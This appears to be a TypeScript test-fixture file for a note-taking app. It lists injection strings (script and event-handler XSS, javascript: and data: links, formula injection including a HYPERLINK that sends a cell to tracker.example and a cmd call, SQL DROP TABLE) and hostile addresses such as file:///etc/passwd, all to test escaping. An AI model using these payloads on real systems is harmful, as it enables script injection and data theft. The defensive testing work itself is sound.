import type { Note } from '../../utils/notes/note.ts';
import { wellFormed } from '../../utils/notes/surrogates.ts';
import { aNote, aNotedClaim, aNotedMark, anAnchor, aPage } from './builders.ts';

/** Text that does harm where it is taken for HTML, Markdown, a table or a formula. */
export const INJECTIONS: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '<svg/onload=alert(1)>',
  '</style><script>alert(1)</script>',
  '</title></textarea><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<!-- --><![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '\ud83d<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '[x](javascript:alert(1))',
  '[x]( javascript:alert(1) "t")',
  '[x](java&#115;cript:alert(1))',
  '[x](javascript\\:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '[x][y]\n\n[y]:\njavascript:alert(1)',
  '[x](\njavascript:alert(1)\n)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '![x](https://tracker.example/pixel.png)',
  '![x][y]\n\n[y]: https://tracker.example/pixel.png',
  '<javascript:alert(1)>',
  '```\nnever closed <script>alert(1)</script>',
  '~~~~\nnever closed',
  '<div>\n\n# A heading of its own\n\n---\n\n| a | b |\n| - | - |',
  '\n\n# A heading of its own\n\n',
  'A heading of its own\n===',
  '> quoted\n\n1. listed\n- listed\n\n    code',
  '| a | b |\n| --- | --- |\n| c | d |',
  '`code <script>alert(1)</script>`',
  '\u202Eright to left\u202C',
  '=1+1',
  '=HYPERLINK("https://tracker.example?"&A1,"x")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)*cmd|"/c calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '",=1+1,"',
  '"\r\n=1+1,"',
  "';DROP TABLE notes;--",
];

/** A note that has the text in every field that takes any text. */
export function hostileNote(text: string, id = aNote().id): Note {
  return aNote({
    id,
    text,
    tags: [text],
    page: aPage({ title: text, site: text }),
    anchor: anAnchor({ quote: text, prefix: text.slice(0, 32), suffix: text.slice(0, 32) }),
    mark: aNotedMark({
      set: text,
      question: text,
      asks: text,
      subject: text,
      figure: { low: 67, high: null, unit: text },
      attributedTo: [text],
      compared: [
        aNotedClaim({
          id: text,
          says: text,
          figure: text,
          assertedBy: [text],
          asOf: text,
          standing: text,
          source: {
            title: text,
            publisher: text,
            url: `https://paper.example/?q=${encodeURI(wellFormed(text))}`,
            published: text,
          },
        }),
      ],
    }),
  });
}

/** Addresses that no report may link to, though a note from a broken store may hold one. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  'javascript:alert(1)',
  'JavaScript:alert(1)//https://',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'https://[broken',
];

export function noteAt(address: string): Note {
  const claim = aNotedClaim();
  return aNote({
    page: aPage({ url: address, canonicalUrl: address }),
    mark: aNotedMark({ compared: [{ ...claim, source: { ...claim.source, url: address } }] }),
  });
}
